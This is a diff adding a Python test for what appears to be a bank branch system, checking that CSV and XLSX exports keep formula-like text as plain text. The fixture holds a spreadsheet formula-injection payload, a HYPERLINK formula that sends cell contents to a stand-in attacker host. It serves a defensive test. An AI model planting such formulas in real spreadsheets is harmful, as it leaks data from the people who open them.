@@ -509,3 +509,23 @@ def test_a_password_is_never_stored_or_logged_in_clear(
     with sqlite3.connect(own_bank.db) as conn:
         tokens = [r[0] for r in conn.execute("SELECT token_hash FROM sessions")]
     assert tokens and all(re.fullmatch(r"[0-9a-f]{64}", t) for t in tokens)  # hashes only
+
+
+def test_text_that_would_start_a_formula_stays_text_in_csv_and_xlsx() -> None:
+    """An owner or a note typed by a branch manager, a teller's name from a device: never a
+    formula in the workbook the central office opens."""
+    import io
+
+    from openpyxl import load_workbook
+
+    from central.web.exports import to_csv, to_xlsx
+    from central.web.tables import Table
+
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"查看")'
+    table = Table("followup", "回访", [], [{"owner": evil, "note": "+1 好", "n": -3}], "followup")
+    csv_text = to_csv(table).decode("utf-8-sig")
+    assert f"'{evil}" in csv_text.replace('""', '"') and "'+1 好" in csv_text and ",-3" in csv_text
+    book = load_workbook(io.BytesIO(to_xlsx([table], [("查询", evil)])))
+    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
+    assert all(c.data_type != "f" for c in cells)
+    assert any(c.value == evil for c in cells) and any(c.value == -3 for c in cells)
